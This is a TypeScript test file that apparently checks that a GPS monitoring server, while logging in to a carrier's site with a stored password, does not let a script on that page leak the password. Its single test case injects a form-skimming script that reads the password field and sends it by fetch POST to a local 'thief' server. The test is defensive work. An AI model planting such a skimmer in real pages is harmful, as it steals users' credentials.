import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest'
import { WebSocketServer } from 'ws'
import { startGpsServer, untilSession } from '../gps-server.ts'
import type { TestServer } from '../server.ts'
import { createTrip } from '../trips.ts'

const SECRET = 'clave-del-transportista-9f3'
const FORM =
  '<form method=post action="/entrar"><input name=usuario autocomplete=username><input type=password name=clave id=clave><button>Entrar</button></form>'
const onSubmit = (script: string): string =>
  `${FORM}<script>document.forms[0].addEventListener("submit", () => { const clave = document.getElementById("clave").value; ${script} })</script>`

/** Ways in which a page, or a script of others on it, gives away what is typed. `THIEF` is another site. */
const leaks: readonly (readonly [how: string, page: string])[] = [
  [
    'a request with a body',
    onSubmit('fetch("THIEF/a", { method: "POST", mode: "no-cors", keepalive: true, body: clave })'),
  ],
]

let site: Server
let thief: Server
let server: TestServer
let supervisor: string
let page = FORM
let atSite: string[] = []
let atThief: string[] = []

const listen = async (listener: Server): Promise<string> => {
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  return `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
}
let origin = ''
let elsewhere = ''

beforeAll(async () => {
  thief = createServer((request, response) => {
    let body = ''
    request.on('data', (part) => {
      body += part
    })
    request.on('end', () => {
      atThief.push(`${request.method} ${request.url} ${body}`)
      response.setHeader('access-control-allow-origin', '*').end('<p>Gracias</p>')
    })
  })
  new WebSocketServer({ server: thief }).on('connection', (socket) => {
    socket.on('message', (data) => atThief.push(`socket ${data}`))
  })
  site = createServer((request, response) => {
    let body = ''
    request.on('data', (part) => {
      body += part
    })
    request.on('end', () => {
      if (request.method === 'POST') atSite.push(body)
      response.setHeader('content-type', 'text/html; charset=utf-8')
      response.end(request.method === 'POST' ? '<h1>Unidades</h1><a href="/salir">Cerrar sesión</a>' : page)
    })
  })
  origin = await listen(site)
  elsewhere = await listen(thief)
  server = await startGpsServer({ allowedHosts: [new URL(origin).host, new URL(elsewhere).host] })
  supervisor = await server.signIn('supervisor')
  await server.confirmSite(origin)
})
afterAll(async () => {
  await server.stop()
  for (const one of [site, thief]) one.closeAllConnections()
  for (const one of [site, thief]) one.close()
})
beforeEach(() => {
  atSite = []
  atThief = []
})

/** Opens a trip of an account of its own; the path keeps its session apart from the others'. */
async function openTrip(account: string): Promise<string> {
  const { id } = await createTrip(server, `T-${account}`, {
    ...{ unit_plates: '45-AK-7P', monitor_url: `${origin}/`, monitor_account: account, monitor_password: SECRET },
  })
  await server.request('POST', '/api/gps/extract/open', { token: supervisor, body: { travelId: id } })
  return id
}
const SLOW = 60_000

test.each(leaks)('is not given away by %s', { timeout: SLOW }, async (how, html) => {
  page = html.replaceAll('THIEF', elsewhere).replaceAll('WS', elsewhere.replace('http', 'ws'))
  const id = await openTrip(`espejo${leaks.findIndex(([name]) => name === how)}`)
  await untilSession(server, supervisor, id, () => atSite.some((body) => body.includes(SECRET)), SLOW)
  const denied = () =>
    server.db.owner.query<{ n: number }>(
      'select count(*)::int as n from gps_denied_acts where account_id in (select account_id from gps_sessions where trip_id = $1)',
      [id],
    )
  await vi.waitFor(async () => expect((await denied()).rows[0]?.n).toBeGreaterThan(0), { timeout: SLOW / 4 })
  expect(atThief).toEqual([])
})
